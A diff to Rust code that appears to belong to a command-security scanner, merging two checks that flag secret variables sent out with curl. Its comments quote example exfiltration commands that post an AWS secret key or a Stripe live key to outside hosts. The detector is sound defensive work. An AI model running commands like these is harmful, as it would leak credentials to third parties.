@@ -128,27 +128,16 @@ pub(super) fn taint_findings(parsed: &ParsedCommand, readers: &[usize]) -> Vec<F
             findings.push(flow_finding(parsed, t, c, host));
             continue;
         }
-        // a secret variable handed to a sender's input as a here-string (`curl -d @- URL <<<
-        // "$AWS_SECRET_ACCESS_KEY"`)
+        // a secret variable sent under its own name: handed to a sender's input as a
+        // here-string (`curl -d @- URL <<< "$AWS_SECRET_ACCESS_KEY"`), or, named for its
+        // vendor, put in the body of a request to a host that is not the vendor's (`curl -d
+        // "k=$STRIPE_LIVE_SECRET_KEY" https://hooks.x.net`)
         if data.is_none()
-            && matches!(c.stdin, Some(StdinSource::Heredoc))
-            && let Some((dest, true)) = sink(c)
-            && let Some(name) = here_string_secret(parsed, c)
-        {
-            let t = Taint {
-                data: Data::Secret,
-                from: i,
-                what: format!("${name}"),
-                renamed: false,
-            };
-            findings.push(flow_finding(parsed, &t, c, &dest));
-            continue;
-        }
-        // a service's secret, named for its vendor, put in the body of a request to a host
-        // that is not the vendor's (`curl -d "k=$STRIPE_LIVE_SECRET_KEY" https://hooks.x.net`)
-        if data.is_none()
-            && let Some((dest, _)) = sink(c)
-            && let Some(name) = foreign_secret_in_body(c, &dest)
+            && let Some((dest, reads_stdin)) = sink(c)
+            && let Some(name) = (reads_stdin && matches!(c.stdin, Some(StdinSource::Heredoc)))
+                .then(|| here_string_secret(parsed, c))
+                .flatten()
+                .or_else(|| foreign_secret_in_body(c, &dest))
         {
             let t = Taint {
                 data: Data::Secret,
